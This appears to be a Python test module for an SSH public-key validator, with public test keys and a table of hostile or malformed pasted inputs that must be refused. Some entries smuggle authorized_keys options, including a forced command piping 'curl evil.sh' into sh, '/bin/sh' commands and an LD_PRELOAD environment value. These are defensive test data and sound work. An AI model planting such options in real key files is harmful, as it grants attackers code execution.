"""Public test vectors and a table of hostile or malformed key inputs.

The vectors are PUBLIC keys made once with ssh-keygen (the private halves were
discarded). Private keys for the "pasted a private key" tests are generated at test
time into a temporary directory, never committed. FIDO (``sk-``) keys cannot be made
without hardware, so they are assembled from their documented wire format.
"""

from __future__ import annotations

import base64
import struct
from dataclasses import dataclass

ED25519 = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN8crqCQZGXDCh9KBbBRI4EGkWOX2SOeVCa1joX0XTan "
    "test-ed25519-256@portal-tests"
)
ECDSA_256 = (
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBO2iFVo23p3r9Bja"
    "PLGfjg78s1V5v6/DVoR4O3SqnpVKeyNsa3j2I922JuSzUe3uc2yfDs5nhtmwpNccHe7ap3c= "
    "test-ecdsa-256@portal-tests"
)
ECDSA_384 = (
    "ecdsa-sha2-nistp384 AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBNsUJDHeu970qrIF"
    "xUA4KlTyVHogg73/FCsgjD4GCVbyl4MOsy9u2vTKoGS5MWlOFLmmNuQytzBvTBEdXGnOq+O1zMlAd2dRwrvfn2fa"
    "Ltlc2T05XFifFL+6eTROmleHVw== test-ecdsa-384@portal-tests"
)
ECDSA_521 = (
    "ecdsa-sha2-nistp521 AAAAE2VjZHNhLXNoYTItbmlzdHA1MjEAAAAIbmlzdHA1MjEAAACFBAApgIjnHDsi9mAi"
    "adHPgVY/QcPja5Sgw8diQDdMrEXXkb4d3dSHxUUZH1Y6PjqjC8vHWLmFUbc6YPxCJvoQH2KzOAAcB06NWqqs/zTK"
    "HNyTDv8blKBh80wU8Q/eGJAnK5Zl/FLkeoJSq5tAvFD8gYF98JJWrHws0ehOJcRmHHsMnFCmLA== "
    "test-ecdsa-521@portal-tests"
)
RSA_2048 = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCRXEnrAFrLe6uaObokYp35F+fi5rsAjlE7DEEVvA3uXzJSh+Yy"
    "r/6qx1D3QcpqOilv8o1P782eL9UbmnsoYKKs2lvRrwdrB803soJiHny0rn60seH7z1RLJZojZD1FF2WjJbCW0xSy"
    "1b1YLHYubFfRJLwW9xSqvojMpJe2WiFbp/3pNqIFzdXpquKJAaxrIBKQL72C0W2H2RAMNpwlybKZsyo8ThHtpOMn"
    "e2ySw3JPTUaldByIdaCdAvchQy7pOHQhjxpP/nY6LI1VT6rAyOEo34qYVKU+ps4HH2W4TrqADggpSU45yawZVUGL"
    "h2Z7WgruMZ+pD3sGKZURVuiJdXgf test-rsa-2048@portal-tests"
)
RSA_1024 = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDqlDWMreOV4M4VQnjXqJzXwPXpchP2KqyFRh/v+eJ9doj7dBlj"
    "a5+qeG4rqbJpTzuKubgRsZvtuK1/0Iunw3C4r9hZQ6JVBWxZQO8P9edtuIMjig9RA2VwrhnoZBM50Cw4pc5bitpz"
    "UoNRdUPPZjt2U3oS1z46xMkNzWNMhhMVeQ== test-rsa-1024@portal-tests"
)
DSA = (
    "ssh-dss AAAAB3NzaC1kc3MAAACBAKrIaBkNvQF5yiMbELVnEec+IId56kh4S0NYfP4wUkaOd5MZ7e2EmD/hdd1j"
    "OJ08AnYoeMHPApI8vtS2uFMxf83oZUMD1gWsXR7wn3ca/KgGx/pV2Q/OJtgawmlJ+kmXiKrC9ozO17DxRldL8+6U"
    "GWcACbkPiYoC0e1CMwX6AOGrAAAAFQDuIBYVtR1sUA3vFiv4ZZHmv9Y12wAAAIBHTWADQ2BApza8rse4WD6hNeWh"
    "XonFtAaa2hBOSFFfAYP2qrcG0PrjJpfhf4aWsSfyNtBguiAVa7m4ug8kr/0ivsbAXfEyUeNkFP9aD8bYdxYEinon"
    "Uv0JOIDlC1fkc3kEWTn9yoMXczI3XuZGTGykYrzCJGU+R8UdZ6p0c2Dx6AAAAIBLBXSN38tSMh+tNn5Pae8vglXV"
    "oNwp3HOCn7Ax/A1EcbadnhZb7ZjWp3OgWcoHM5kHL96Bvd2RtV8pWrxnF8/Z3YpTkvIzBQfQYRSTthCflFyP8u0V"
    "x7hSmS/0/uaKy9h2wniypoMt9C09mSFOn/O3gMRTf9ZMD32mkKW56NOICA== test-dsa@portal-tests"
)
# An ed25519 user certificate for principal "milo", signed by a throwaway CA.
CERTIFICATE = (
    "ssh-ed25519-cert-v01@openssh.com AAAAIHNzaC1lZDI1NTE5LWNlcnQtdjAxQG9wZW5zc2guY29tAAAAIGfW"
    "VBqF2AaRosCXE0Vjemr+vsKQ67i1llTMqZY22CkbAAAAIN8crqCQZGXDCh9KBbBRI4EGkWOX2SOeVCa1joX0XTan"
    "AAAAAAAAAAAAAAABAAAABG1pbG8AAAAIAAAABG1pbG8AAAAAAAAAAP//////////AAAAAAAAAIIAAAAVcGVybWl0"
    "LVgxMS1mb3J3YXJkaW5nAAAAAAAAABdwZXJtaXQtYWdlbnQtZm9yd2FyZGluZwAAAAAAAAAWcGVybWl0LXBvcnQt"
    "Zm9yd2FyZGluZwAAAAAAAAAKcGVybWl0LXB0eQAAAAAAAAAOcGVybWl0LXVzZXItcmMAAAAAAAAAAAAAADMAAAAL"
    "c3NoLWVkMjU1MTkAAAAgW6BY9JwFdFu+Nq/PiP8rI24DrY/s/YVS20qpk/l0n0cAAABTAAAAC3NzaC1lZDI1NTE5"
    "AAAAQDzZHdam9yUaf4Sw1HcDroWhjIFe2fRh1Qo/Vnug/+QHtzgo7LwJCEQ0eMvF8iUQeev3CYc7uDj6BARVGVfg"
    "NQo= test-ed25519-256@portal-tests"
)


def ssh_string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def mpint(n: int, *, raw: bytes | None = None) -> bytes:
    """An RFC 4251 mpint; ``raw`` overrides the encoding to build malformed ones."""
    if raw is None:
        raw = n.to_bytes((n.bit_length() + 8) // 8, "big") if n else b""
    return ssh_string(raw)


def blob_of(line: str) -> bytes:
    return base64.b64decode(line.split()[1])


def b64(blob: bytes) -> str:
    return base64.b64encode(blob).decode()


def line(key_type: str, blob: bytes, comment: str = "") -> str:
    return f"{key_type} {b64(blob)} {comment}".rstrip()


def ec_point(ecdsa_line: str) -> bytes:
    """The uncompressed point inside an ecdsa-sha2-* key."""
    blob = blob_of(ecdsa_line)
    pos, fields = 0, []
    while pos < len(blob):
        (length,) = struct.unpack(">I", blob[pos : pos + 4])
        fields.append(blob[pos + 4 : pos + 4 + length])
        pos += 4 + length
    return fields[2]


def sk_ed25519_blob(key: bytes = bytes(range(32)), application: bytes = b"ssh:") -> bytes:
    return ssh_string(b"sk-ssh-ed25519@openssh.com") + ssh_string(key) + ssh_string(application)


def sk_ecdsa_blob(
    point: bytes | None = None, application: bytes = b"ssh:", curve: bytes = b"nistp256"
) -> bytes:
    point = ec_point(ECDSA_256) if point is None else point
    return (
        ssh_string(b"sk-ecdsa-sha2-nistp256@openssh.com")
        + ssh_string(curve)
        + ssh_string(point)
        + ssh_string(application)
    )


def rsa_blob(e: int, n: int, *, e_raw: bytes | None = None) -> bytes:
    return ssh_string(b"ssh-rsa") + mpint(e, raw=e_raw) + mpint(n)


SK_ED25519 = line("sk-ssh-ed25519@openssh.com", sk_ed25519_blob(), "milo@yubikey")
SK_ECDSA = line("sk-ecdsa-sha2-nistp256@openssh.com", sk_ecdsa_blob(), "milo@yubikey")

# (line, type, bits) for every type on the allowlist.
ACCEPTED = [
    (ED25519, "ssh-ed25519", 256),
    (SK_ED25519, "sk-ssh-ed25519@openssh.com", 256),
    (ECDSA_256, "ecdsa-sha2-nistp256", 256),
    (ECDSA_384, "ecdsa-sha2-nistp384", 384),
    (ECDSA_521, "ecdsa-sha2-nistp521", 521),
    (SK_ECDSA, "sk-ecdsa-sha2-nistp256@openssh.com", 256),
    (RSA_2048, "ssh-rsa", 2048),
]

_ED_TYPE, _ED_B64, _ED_COMMENT = ED25519.split()
_ED_BLOB = blob_of(ED25519)
_RSA_N = int.from_bytes(blob_of(RSA_2048)[-257:], "big")
_P256 = ec_point(ECDSA_256)


def _rfc4716(body: str, *headers: str, end: bool = True) -> str:
    lines = ["---- BEGIN SSH2 PUBLIC KEY ----", *headers]
    lines += [body[i : i + 70] for i in range(0, len(body), 70)]
    if end:
        lines.append("---- END SSH2 PUBLIC KEY ----")
    return "\n".join(lines) + "\n"


@dataclass(frozen=True)
class Bad:
    """One refused input: what was pasted, the code, and words the message must use."""

    id: str
    text: str
    code: str
    fragment: str


HOSTILE = [
    # Nothing there, or far too much.
    Bad("empty", "", "empty", "Paste your SSH public key"),
    Bad("only-whitespace", " \r\n\t \n", "empty", "Paste your SSH public key"),
    Bad("megabyte", "ssh-ed25519 " + "A" * 20000, "too_long", "far longer"),
    # Second lines: the classic way to smuggle options past a one-line parser.
    Bad(
        "second-line-with-command",
        ED25519 + '\ncommand="curl evil.sh|sh" ' + ED25519,
        "multiple_lines",
        "exactly one line",
    ),
    Bad("two-keys-two-lines", ED25519 + "\n" + RSA_2048, "multiple_keys", "one at a time"),
    Bad("two-keys-one-line", ED25519 + " " + RSA_2048, "multiple_keys", "one at a time"),
    Bad(
        "wrapped-by-email",
        f"{_ED_TYPE} {_ED_B64[:30]}\n{_ED_B64[30:]} {_ED_COMMENT}",
        "multiple_lines",
        "wrapped across lines",
    ),
    Bad(
        "carriage-return-inside",
        f"{_ED_TYPE} {_ED_B64}\rcommand=x",
        "multiple_lines",
        "exactly one line",
    ),
    Bad("comment-line-first", "# my laptop\n" + ED25519, "multiple_lines", "one line"),
    # Control and invisible characters.
    Bad("nul-in-comment", ED25519 + "\x00root", "control_character", "U+0000"),
    Bad("ansi-escape", ED25519 + " \x1b[2Jhi", "control_character", "U+001B"),
    Bad("bidi-override", ED25519 + " \u202etxt.exe", "control_character", "U+202E"),
    Bad(
        "zero-width-space-in-data",
        f"{_ED_TYPE} {_ED_B64[:10]}\u200b{_ED_B64[10:]}",
        "control_character",
        "U+200B",
    ),
    Bad("vertical-tab", ED25519 + "\x0b", "control_character", "U+000B"),
    Bad("line-separator", ED25519 + "\u2028x", "control_character", "U+2028"),
    Bad("nbsp-after-type", f"{_ED_TYPE}\u00a0{_ED_B64}", "nbsp", "non-breaking space (U+00A0)"),
    Bad("narrow-nbsp", f"{_ED_TYPE} {_ED_B64}\u202fme", "nbsp", "U+202F"),
    Bad("unicode-hyphen-in-type", f"ssh\u2010ed25519 {_ED_B64}", "non_ascii", "HYPHEN"),
    Bad("fullwidth-in-data", f"{_ED_TYPE} {_ED_B64[:-1]}\uff4e", "non_ascii", "FULLWIDTH"),
    # Options before the key type.
    Bad("command", f'command="/bin/sh" {ED25519}', "options", "command="),
    Bad("from", f'from="10.0.0.0/8" {ED25519}', "options", "from="),
    Bad("restrict", f"restrict {ED25519}", "options", "(restrict)"),
    Bad("restrict-and-pty", f'restrict,pty,command="id" {ED25519}', "options", "pty"),
    Bad("cert-authority", f'cert-authority,principals="root" {ED25519}', "options", "principals="),
    Bad("no-pty", f"no-pty {ED25519}", "options", "no-pty"),
    Bad("environment", f'environment="LD_PRELOAD=/tmp/x.so" {ED25519}', "options", "environment="),
    Bad("permitopen", f'permitopen="10.0.0.1:22" {ED25519}', "options", "permitopen="),
    Bad("expiry-time", f'expiry-time="20991231" {ED25519}', "options", "expiry-time="),
    Bad("no-touch-required", f"no-touch-required {SK_ED25519}", "options", "no-touch-required"),
    Bad("verify-required", f"verify-required {SK_ECDSA}", "options", "verify-required"),
    Bad("option-without-key", "restrict", "options", "does not accept options"),
    Bad("known-hosts-line", f"tpu5.example.org,10.0.0.5 {ED25519}", "options", "known_hosts"),
    # Types.
    Bad("uppercase-type", f"SSH-ED25519 {_ED_B64}", "unsupported_type", "write ssh-ed25519"),
    Bad("dsa", DSA, "dsa", "DSA (ssh-dss)"),
    Bad("dsa-without-data", "ssh-dss", "dsa", 'ssh-keygen -t ed25519 -C "you@laptop"'),
    Bad("certificate", CERTIFICATE, "certificate", "SSH certificate"),
    Bad("ed448", f"ssh-ed448 {_ED_B64}", "unsupported_type", "ssh-ed448 keys are not accepted"),
    Bad("x509", f"x509v3-sign-rsa {_ED_B64}", "unsupported_type", "not accepted"),
    Bad("prose", "hello, here is my key!", "not_a_key", "does not look like an SSH public key"),
    Bad("data-without-type", f"{_ED_B64} {_ED_COMMENT}", "missing_type", "with ssh-ed25519"),
    Bad("type-without-data", "ssh-ed25519", "missing_key_data", "key data is missing"),
    Bad(
        "fingerprint",
        "256 SHA256:p67S8pC3skVZETWcAH65pQLGAFCrmxnddnn1KYTPASI milo@laptop (ED25519)",
        "fingerprint",
        "fingerprint, not the key",
    ),
    Bad(
        "pem-public-key",
        "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----",
        "pem_public_key",
        "ssh-keygen -i -m PKCS8",
    ),
    # Base64.
    Bad("bang-in-data", f"{_ED_TYPE} {_ED_B64[:20]}!{_ED_B64[21:]}", "bad_base64", "'!'"),
    Bad("stray-equals", f"{_ED_TYPE} {_ED_B64[:20]}={_ED_B64[21:]}", "bad_base64", "'=' in the"),
    Bad(
        "altered-padding-bits",
        ECDSA_256.replace("3c= ", "3d= "),
        "bad_base64",
        "not what any key generator writes",
    ),
    Bad("url-safe-alphabet", f"{_ED_TYPE} {_ED_B64[:20]}-{_ED_B64[21:]}", "bad_base64", "'-'"),
    Bad("one-char-short", f"{_ED_TYPE} {_ED_B64[:-1]}", "truncated", "wrong length"),
    # Wire format.
    Bad("cut-short", f"{_ED_TYPE} {b64(_ED_BLOB[:-3])}", "truncated", "cut off"),
    Bad("padded", line(_ED_TYPE, _ED_BLOB + b"\0\0\0"), "trailing_data", "extra bytes"),
    Bad(
        "padded-sk",
        line("sk-ssh-ed25519@openssh.com", sk_ed25519_blob() + b"\0"),
        "trailing_data",
        "extra bytes",
    ),
    Bad(
        "huge-length-field", line(_ED_TYPE, b"\xff\xff\xff\xff" + _ED_BLOB), "truncated", "cut off"
    ),
    Bad("rsa-label-ed-data", f"ssh-rsa {_ED_B64}", "type_mismatch", "an ssh-ed25519 key"),
    Bad(
        "p384-label-p256-data",
        ECDSA_256.replace("ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", 1),
        "type_mismatch",
        "an ecdsa-sha2-nistp256 key",
    ),
    Bad(
        "sk-label-plain-data",
        f"sk-ssh-ed25519@openssh.com {_ED_B64}",
        "type_mismatch",
        "holds an ssh-ed25519 key",
    ),
    Bad(
        "ed25519-31-bytes",
        line(_ED_TYPE, ssh_string(b"ssh-ed25519") + ssh_string(b"\1" * 31)),
        "invalid_key",
        "32 bytes",
    ),
    Bad(
        "point-off-curve",
        line(
            "ecdsa-sha2-nistp256",
            ssh_string(b"ecdsa-sha2-nistp256")
            + ssh_string(b"nistp256")
            + ssh_string(_P256[:-1] + bytes([_P256[-1] ^ 1])),
        ),
        "invalid_key",
        "not on the curve",
    ),
    Bad(
        "compressed-point",
        line(
            "ecdsa-sha2-nistp256",
            ssh_string(b"ecdsa-sha2-nistp256")
            + ssh_string(b"nistp256")
            + ssh_string(bytes([2 + (_P256[-1] & 1)]) + _P256[1:33]),
        ),
        "invalid_key",
        "wrong format",
    ),
    Bad(
        "curve-name-mismatch",
        line(
            "ecdsa-sha2-nistp256",
            ssh_string(b"ecdsa-sha2-nistp256") + ssh_string(b"nistp384") + ssh_string(_P256),
        ),
        "invalid_key",
        "curve name",
    ),
    Bad(
        "sk-without-application",
        line(
            "sk-ssh-ed25519@openssh.com",
            ssh_string(b"sk-ssh-ed25519@openssh.com") + ssh_string(bytes(32)),
        ),
        "truncated",
        "cut off",
    ),
    Bad(
        "sk-application-with-nul",
        line("sk-ssh-ed25519@openssh.com", sk_ed25519_blob(application=b"ssh:\0x")),
        "invalid_key",
        "application",
    ),
    Bad(
        "sk-ecdsa-on-p384",
        line("sk-ecdsa-sha2-nistp256@openssh.com", sk_ecdsa_blob(curve=b"nistp384")),
        "invalid_key",
        "curve name",
    ),
    # RSA policy.
    Bad("rsa-1024", RSA_1024, "rsa_too_short", "only 1024 bits"),
    Bad(
        "rsa-16400",
        line("ssh-rsa", rsa_blob(65537, (1 << 16399) | 1)),
        "rsa_too_long",
        "16400 bits",
    ),
    Bad("rsa-e-1", line("ssh-rsa", rsa_blob(1, _RSA_N)), "rsa_bad_exponent", "public exponent"),
    Bad(
        "rsa-e-even",
        line("ssh-rsa", rsa_blob(65536, _RSA_N)),
        "rsa_bad_exponent",
        "public exponent",
    ),
    Bad(
        "rsa-e-negative",
        line("ssh-rsa", rsa_blob(0, _RSA_N, e_raw=b"\x81\x00\x01")),
        "invalid_key",
        "negative",
    ),
    Bad(
        "rsa-e-leading-zero",
        line("ssh-rsa", rsa_blob(0, _RSA_N, e_raw=b"\x00\x01\x00\x01")),
        "invalid_key",
        "leading zero",
    ),
    Bad("rsa-even-modulus", line("ssh-rsa", rsa_blob(65537, _RSA_N + 1)), "invalid_key", "even"),
    # RFC 4716 inputs go through the same checks.
    Bad("rfc4716-forced-command", _rfc4716(_ED_B64, "x-command: /bin/sh"), "options", "x-command"),
    Bad("rfc4716-no-end", _rfc4716(_ED_B64, end=False), "bad_rfc4716", "END SSH2 PUBLIC KEY"),
    Bad(
        "rfc4716-two-keys", _rfc4716(_ED_B64) + _rfc4716(_ED_B64), "multiple_keys", "one at a time"
    ),
    Bad("rfc4716-dsa", _rfc4716(DSA.split()[1]), "dsa", "DSA"),
    Bad("rfc4716-damaged", _rfc4716(_ED_B64[:20] + "!" + _ED_B64[21:]), "bad_base64", "'!'"),
    Bad(
        "rfc4716-nul-in-comment",
        _rfc4716(_ED_B64, 'Comment: "a\x00b"'),
        "control_character",
        "U+0000",
    ),
]
